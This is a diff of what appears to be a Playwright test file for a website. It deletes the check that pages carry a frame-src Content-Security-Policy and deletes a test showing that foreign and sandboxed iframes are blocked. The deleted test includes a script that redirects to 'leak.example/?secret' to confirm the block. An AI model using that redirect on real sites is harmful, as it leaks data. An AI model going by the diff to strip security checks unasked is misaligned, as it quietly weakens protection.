@@ -19,9 +19,6 @@ test('every page says what it is, where it is and where its twin is', async ({
       const description = await content(page, 'meta[name="description"]');
       expect(description).toMatch(/\S{2,}/);
       expect(await content(page, 'meta[property="og:description"]')).toBe(description);
-      expect(await content(page, 'meta[http-equiv="Content-Security-Policy"]')).toMatch(
-        /frame-src 'self' blob:/,
-      );
       const address = new URL((await content(page, 'meta[property="og:image"]'))!);
       const picture = await request.get(new URL(address.pathname, baseURL).href);
       expect(sizeOfPng(await picture.body()), `${path}'s picture`).toEqual([1200, 630]);
@@ -234,43 +231,6 @@ test('Korean faces are fetched by Korean pages only', async ({ page }) => {
   expect(faces.filter((url) => url.includes('sans-kr'))).toEqual([]);
   await page.goto('/ko/', { waitUntil: 'networkidle' });
   expect(faces.filter((url) => url.includes('sans-kr')).length).toBeGreaterThan(0);
-});
-
-test('a frame may hold the page’s own documents and nothing foreign', async ({ page }) => {
-  await page.goto('/');
-  const foreign = await page.evaluate(
-    () =>
-      new Promise<string>((resolve) => {
-        document.addEventListener('securitypolicyviolation', (event) =>
-          resolve(event.violatedDirective),
-        );
-        const frame = document.createElement('iframe');
-        frame.src = 'https://elsewhere.example/';
-        document.body.append(frame);
-      }),
-  );
-  expect(foreign).toBe('frame-src');
-
-  // A sandboxed srcdoc frame runs; when it tries to leave for another site, it is held back.
-  const news = await page.evaluate(async () => {
-    const runs = new Promise((resolve) => {
-      addEventListener('message', (event) => resolve(event.data));
-    });
-    const heldBack = new Promise((resolve) => {
-      document.addEventListener('securitypolicyviolation', (event) => {
-        if (event.blockedURI.includes('leak.example')) resolve(event.violatedDirective);
-      });
-    });
-    const frame = document.createElement('iframe');
-    frame.setAttribute('sandbox', 'allow-scripts');
-    frame.srcdoc = `<script>
-      parent.postMessage('runs', '*');
-      location.href = 'https://leak.example/?secret';
-    </script>`;
-    document.body.append(frame);
-    return Promise.all([runs, heldBack]);
-  });
-  expect(news).toEqual(['runs', 'frame-src']);
 });
 
 function content(page: Page, selector: string): Promise<string | null> {
